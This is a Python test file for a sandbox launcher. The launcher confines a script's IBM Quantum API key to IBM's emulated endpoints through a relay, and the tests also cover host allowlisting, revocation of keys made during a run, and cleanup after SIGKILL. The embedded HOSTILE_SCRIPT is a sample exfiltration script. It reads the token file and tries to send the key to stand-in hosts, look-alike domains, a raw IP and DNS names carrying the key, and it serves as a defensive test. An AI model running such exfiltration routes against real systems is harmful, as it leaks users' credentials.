"""The key can only go to IBM: proven through the relay against a stand-in for IBM, since this
machine has no internet.

The stand-in is the emulated platform on a labelled test bridge network (a public-looking subnet)
that this machine routes to; runs use `--platform ibm` with the default `--network allowlist`, so
the sandbox has no network at all and the launcher relays its CONNECTs, sending each of IBM's
names to the emulator's address (`--connect-to NAME:443:ADDR:443`), and the sandbox trusts the
emulator's CA (`--ca-file`): to the client inside, it is IBM. The hostile routes one by one, each
with its control, are in tests/docker/test_relay.py. Each leak search (`leak_search`) plants and
finds its own control in the same call (conftest.problems fails a place that missed it).
"""

from __future__ import annotations

import json
import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest
from relay_helpers import (
    EXAMPLES,
    HOSTILE,
    SCRIPTS,
    Listener,
    StandIn,
    bridge_gateway,
    closing_line,
    connect_to,
    control,
    host_address,
    listeners,
    results,
    run_containers,
    run_launcher,
    run_objects,
    stand_in,
    start_launcher,
    wait_until,
)

from qsandbox.launcher.core.credentials import Secret
from qsandbox.launcher.core.settings import LABEL
from qsandbox.launcher.engine import localplatform

pytestmark = pytest.mark.docker


@pytest.fixture(scope="module")
def standin(image, docker_client, tmp_path_factory) -> Iterator[StandIn]:
    """No key digests: like the shared emulator, it accepts any well-formed key (each test's canary)."""
    with stand_in(docker_client, image, tmp_path_factory.mktemp("standin"), []) as s:
        yield s


@pytest.fixture
def exfil() -> Iterator[Listener]:
    with listeners("exfil") as (listener,):
        yield listener


def run_ibm(popen, standin: StandIn, canary: str, script: Path, *args: str, options: tuple[str, ...] = ()):
    return run_launcher(popen, canary, *standin.options(), *options, str(script), *args)


@pytest.mark.parametrize("example", ["bell.py", "estimator.py", "executor_sampler.py", "session.py", "rest_api.py"])
def test_unchanged_examples_reach_ibm_through_the_relay(popen, standin, canary, example, leak_search):
    code, out, err = run_ibm(popen, standin, canary, EXAMPLES / example)
    assert code == 0, out + err
    assert "egress refused" not in err
    assert canary not in out + err
    assert leak_search.all_hits() == []


# Sends the key (in a request body) every way a script might, through the relay and around it.
HOSTILE_SCRIPT = r"""
import json, os, socket, sys, urllib.request
exfil_ip, exfil_port, key = sys.argv[1], int(sys.argv[2]), open(os.environ["QISKIT_IBM_TOKEN_FILE"]).read()
out = {}
def via_proxy(name, url):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=key.encode()), timeout=15)
        out[name] = "REACHED"
    except Exception as e:
        out[name] = type(e).__name__ + ": " + str(e)[:80]
via_proxy("exfil host", "https://exfil.test/")
via_proxy("exfil ip", f"https://{exfil_ip}/")
via_proxy("other port", "https://quantum.cloud.ibm.com:8443/")
via_proxy("plain http", "http://quantum.cloud.ibm.com/")
via_proxy("suffix look-alike", "https://quantum.cloud.ibm.com.evil.test/")
via_proxy("prefix look-alike", "https://evilquantum.cloud.ibm.com/")
def direct(name, host, port):
    try:
        socket.create_connection((host, port), timeout=3).sendall(key.encode()); out[name] = "REACHED"
    except OSError as e:
        out[name] = type(e).__name__ + ": " + str(e)[:80]
direct("direct ip", exfil_ip, exfil_port)
for var in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
    os.environ.pop(var, None)
direct("no proxy vars", "exfil.test", 443)
try:
    socket.getaddrinfo(key[:20].lower() + ".exfil.test", 443); out["dns"] = "RESOLVED"
except OSError as e:
    out["dns"] = type(e).__name__ + ": " + str(e)[:80]
print(json.dumps(out))
"""


def test_a_hostile_script_cannot_send_the_key_anywhere_else(
    popen, standin, canary, tmp_path, exfil, docker_client, image, leak_search
):
    """With the emulator reachable under IBM's names in the same run, a script sending the key to
    any other name, an IP, another port, plain HTTP, look-alikes, directly or by DNS gets nowhere:
    the exfil listener (which every refused name is sent to by --connect-to, so only the launcher's
    refusal stands between) hears nothing, while an ordinary container reaches it before and after."""
    gateway = bridge_gateway(docker_client)
    redirects = [
        o
        for name in ("exfil.test", "quantum.cloud.ibm.com.evil.test", "evilquantum.cloud.ibm.com")
        for o in connect_to(name, "127.0.0.1", exfil.port)
    ]

    def reach(phase: str) -> None:
        got = results(
            control(docker_client, image, HOSTILE / "relay_raw.py", json.dumps([[phase, "tcp", gateway, exfil.port]]))
        )
        assert got[phase] == "REACHED", got
        wait_until(lambda: exfil.heard(phase), 30, f"the exfil listener heard the {phase} control")

    reach("before")
    script = tmp_path / "exfiltrate.py"
    script.write_text(HOSTILE_SCRIPT)
    code, out, err = run_ibm(popen, standin, canary, script, host_address(), str(exfil.port), options=tuple(redirects))
    assert code == 0, out + err
    found = json.loads(out.strip().splitlines()[-1])
    assert set(found) == {
        "exfil host",
        "exfil ip",
        "other port",
        "plain http",
        "suffix look-alike",
        "prefix look-alike",
        "direct ip",
        "no proxy vars",
        "dns",
    }
    for name, outcome in found.items():
        assert "REACHED" not in outcome and "RESOLVED" not in outcome, (name, outcome)
    reach("after")
    assert all(f.startswith(("before", "after")) for f in exfil.firsts()), exfil.firsts()
    closing = closing_line(err)
    for target in (
        "exfil.test:443",
        f"{host_address()}:443",
        "quantum.cloud.ibm.com:8443",
        "quantum.cloud.ibm.com:80",
        "quantum.cloud.ibm.com.evil.test:443",
        "evilquantum.cloud.ibm.com:443",
    ):
        assert target in closing, (target, closing)
    assert "(allow with --allow-host)" in closing
    assert canary not in out + err
    assert leak_search.all_hits() == []


def test_allow_host_lets_one_more_host_through(popen, standin, canary, tmp_path, exfil):
    """--allow-host exfil.test (sent to a listener here by --connect-to): the script's HTTPS reaches
    it (its TLS hello arrives) and nothing is refused; the control: without --allow-host, the same
    run is refused and the listener hears nothing."""
    script = tmp_path / "reach.py"
    script.write_text(
        "import urllib.request\n"
        "try:\n    urllib.request.urlopen('https://exfil.test/', timeout=10)\nexcept Exception as e:\n"
        "    print(type(e).__name__, str(e)[:100])\n"
    )
    redirect = tuple(connect_to("exfil.test", "127.0.0.1", exfil.port))
    code, _, err = run_ibm(popen, standin, canary, script, options=redirect)
    assert code == 0, err
    assert "egress refused: exfil.test:443" in closing_line(err)
    assert exfil.conns == []
    code, _, err = run_ibm(popen, standin, canary, script, options=("--allow-host", "exfil.test", *redirect))
    assert code == 0, err
    assert "egress refused" not in err
    wait_until(lambda: len(exfil.conns) == 1, 30, "the TLS hello reached the listener")


@pytest.fixture
def closed_stand_in(image, docker_client, tmp_path, canary) -> Iterator[StandIn]:
    """A stand-in of its own whose IAM accepts only this test's canary and the keys made with it
    (the module's stand-in accepts any well-formed key, so it could not tell a dead key from one
    it never saw)."""
    with stand_in(docker_client, image, tmp_path, [localplatform.digest(Secret(canary, "test"))]) as s:
        yield s


def test_short_lived_token_mode_through_the_relay(popen, standin, canary, leak_search):
    """--token-mode short-lived: the broker mints the token through the relay, the sandbox never
    sees the key, and an unchanged example runs."""
    code, out, err = run_ibm(popen, standin, canary, EXAMPLES / "bell.py", options=("--token-mode", "short-lived"))
    assert code == 0, out + err
    assert canary not in out + err
    assert leak_search.all_hits() == []


def test_an_api_key_made_during_the_run_no_longer_works_after_it(popen, closed_stand_in, canary, leak_search):
    """Issue 23, finding 9, through the relay to IBM's (emulated) IAM: a script makes a new API key
    with the key. Without --revoke-after that key outlives the run (the control: the check after the
    run sees a living key); with it, the new key is deleted along with the key. The broker that
    revokes runs as a sandbox too, through the relay (sandbox.run_keyed_helper)."""
    hostile = HOSTILE / "make_api_key.py"
    made, runs = {}, {}
    for revoke_after in (False, True):
        options = ("--revoke-after",) if revoke_after else ()
        code, out, err = run_ibm(popen, closed_stand_in, canary, hostile, "--show-new-key", options=options)
        assert code == 0, out + err
        assert "new key works: True" in out, out
        made[revoke_after] = out.split("new key: ", 1)[1].split()[0]
        runs[revoke_after] = (out, err)

    def afterwards(key: str) -> str:
        code, out, err = run_ibm(popen, closed_stand_in, key, SCRIPTS / "use_account.py")
        assert code == 0, out + err
        return out.strip()

    assert afterwards(made[False]).startswith("accepted:")  # made in the run without --revoke-after
    assert afterwards(made[True]).startswith("refused:")
    assert afterwards(canary).startswith("refused:")
    assert "API key revoked" not in runs[False][1]
    made_id = runs[True][0].split("create: 201 ", 1)[1].split()[0]
    assert f", and 1 API key made during the run: {made_id} created " in runs[True][1], runs[True][1]
    for out, err in runs.values():
        assert canary not in out + err
    assert leak_search.all_hits() == []


def test_sigkill_of_the_launcher_takes_the_sandbox_along(docker_client, popen, standin, canary, tmp_path):
    """A run against the stand-in, its script holding: the run's one container (network mode none)
    is there while the launcher lives (the control); after SIGKILL, nothing of the run is left, and
    there was never a network to leave."""
    marker = secrets.token_hex(8)
    script = tmp_path / "hold.py"
    script.write_text(
        "import time\nfrom qiskit_ibm_runtime import QiskitRuntimeService\n"
        "print(len(QiskitRuntimeService().backends()), 'backends', flush=True)\nprint('holding', flush=True)\n"
        "time.sleep(300)\n"
    )
    proc = start_launcher(popen, canary, *standin.options(), str(script), marker)
    assert proc.stdout.readline().endswith("backends\n")
    assert proc.stdout.readline().strip() == "holding"
    (attrs,) = run_containers(docker_client, marker)
    run_id = attrs["Config"]["Labels"][LABEL]
    assert attrs["HostConfig"]["NetworkMode"] == "none"
    assert run_objects(docker_client, run_id) == [f"container /qsandbox-{run_id}"]
    proc.kill()
    proc.communicate(timeout=30)
    wait_until(lambda: run_objects(docker_client, run_id) == [], 5, "nothing of the run left 5 s after SIGKILL")
